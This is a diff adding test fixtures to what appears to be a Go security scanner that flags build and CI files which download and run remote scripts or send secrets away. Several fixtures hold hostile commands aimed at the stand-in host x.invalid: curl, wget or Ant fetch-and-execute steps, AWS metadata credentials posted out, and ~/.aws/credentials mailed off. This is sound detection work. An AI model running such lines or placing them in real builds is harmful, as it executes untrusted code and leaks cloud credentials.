@@ -218,6 +218,9 @@ var registry = []Rule{
 		// ADD into the working directory names the file by the URL's last segment.
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/setup.sh .\nRUN sh setup.sh", 4, false},
 		{"Dockerfile", "FROM alpine\nWORKDIR /out\nADD https://x.invalid/t-1.2.tar.gz .\nRUN tar -xf t-1.2.tar.gz\nRUN adduser -S app && git config --global core.quotepath false", 0, true},
+		// Unpacked on the next line of the same RUN, by tar under libarchive's name.
+		{"Dockerfile", "FROM alpine\nRUN d=\"$(mktemp -d)\"; \\\n  curl -fsSL https://x.invalid/n.tar.xz -o ${d}/n.tar.xz; \\\n  bsdtar -C ${d} -xf ${d}/n.tar.xz; \\\n  cp ${d}/bin/n /usr/local/bin/n", 4, true},
+		{"Dockerfile", "FROM alpine\nRUN d=\"$(mktemp -d)\"; \\\n  curl -fsSL https://x.invalid/n.sh -o ${d}/n.sh; \\\n  sh ${d}/n.sh", 4, false},
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
@@ -257,6 +260,13 @@ var registry = []Rule{
 		// Ant's <get> fetches and its <exec> runs, in build.xml or a POM's antrun target.
 		{"build.xml", "<project>\n  <target name=\"gen\">\n    <get src=\"https://x.invalid/g.sh\" dest=\"${build.dir}/g.sh\"/>\n    <exec executable=\"sh\" failonerror=\"false\">\n      <arg value=\"${build.dir}/g.sh\"/>\n    </exec>\n  </target>\n</project>", 5, false},
 		{"pom.xml", "<target>\n  <exec executable=\"git\" outputproperty=\"git.rev\">\n    <arg value=\"rev-parse\"/>\n    <arg value=\"HEAD\"/>\n  </exec>\n  <exec executable=\"npm\" dir=\"${basedir}/ui\"><arg line=\"run build\"/></exec>\n</target>", 0, true},
+		// Code that hands literal commands to a shell or a process: one
+		// call downloads, the next runs what it wrote (Rake's sh, Conan's
+		// self.run, nox's session.run with an argument list).
+		{"Rakefile", "task :setup do\n  sh \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\n  sh \"sh /tmp/b.sh\"\nend", 3, false},
+		{"conanfile.py", "class X(ConanFile):\n    def build(self):\n        self.run(\"wget -qO /tmp/b.sh https://x.invalid/b.sh\")\n        self.run(\"bash /tmp/b.sh\")", 4, false},
+		{"noxfile.py", "@nox.session\ndef t(session):\n    session.run(\"curl\", \"-fsSLo\", \"/tmp/b.sh\", \"https://x.invalid/b.sh\", external=True)\n    session.run(\"sh\", \"/tmp/b.sh\", external=True)", 4, false},
+		{"setup.py", "import subprocess\nsubprocess.check_call([\"git\", \"submodule\", \"update\", \"--init\"])\nsubprocess.check_call(\"make -C build -j4\", shell=True)\nsubprocess.check_call([\"cmake\", \"-S\", \".\", \"-B\", \"build\", f\"-DPYTHON={sys.executable}\"])", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -409,6 +419,13 @@ var registry = []Rule{
 			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
 			{"x.sh", "cat ~/.aws/credentials | msmtp a@x.invalid", 0, false},
 			{"x.sh", "echo build done | mail -s done ops@x.invalid", 0, true},
+			// tar -C names what it packs from that directory: web/, not the checkout.
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          tar -czf out/web.tar.gz -C web .\n          gh release create v1 out/web.tar.gz\n        env:\n          GH_TOKEN: ${{ github.token }}", 9, true},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          tar -czf /tmp/all.tar.gz .\n          gh release create v1 /tmp/all.tar.gz\n        env:\n          GH_TOKEN: ${{ github.token }}", 9, false},
+			// The metadata service's session token (IMDSv2) goes back to the
+			// service on the runner's own machine; its credentials sent away leave.
+			{"x.sh", "TOKEN=$(curl -sS -X PUT http://169.254.169.254/latest/api/token -H \"X-aws-ec2-metadata-token-ttl-seconds: 30\")\nENV=$(curl -sS -H \"X-aws-ec2-metadata-token: $TOKEN\" http://169.254.169.254/latest/meta-data/tags/instance/env)", 0, true},
+			{"x.sh", "C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ci)\ncurl -s -d \"$C\" https://x.invalid/c", 2, false},
 			// GitHub's token handed as the credential (a header, -u, a URL's
 			// user part) of a request to another host; to GitHub it is its use.
 			{"x.sh", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.invalid/`, 0, false},
@@ -1239,6 +1256,8 @@ var registry = []Rule{
 			// Without the head checked out, the workspace holds the base branch's own files.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 7, true},
 			{".github/workflows/a.yml", "on: pull_request\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo \"$GITHUB_WORKSPACE/bin\" >> \"$GITHUB_PATH\"", 9, true},
+			// What the instance's own metadata service answers did not come over the network.
+			{".github/workflows/a.yml", "on: workflow_dispatch\njobs:\n  b:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: |\n          E=$(curl -sS http://169.254.169.254/latest/meta-data/tags/instance/env)\n          echo \"ENVIRONMENT=$E\" >> \"$GITHUB_ENV\"", 8, true},
 		}},
 	{"gha-path-shadow", KindExecute, High, "puts a directory of the checkout first on PATH before a step that holds a secret",
 		"a later step that calls git, gh or node by name, with a secret or the token in its env, then runs the change's file of that name instead", []Case{
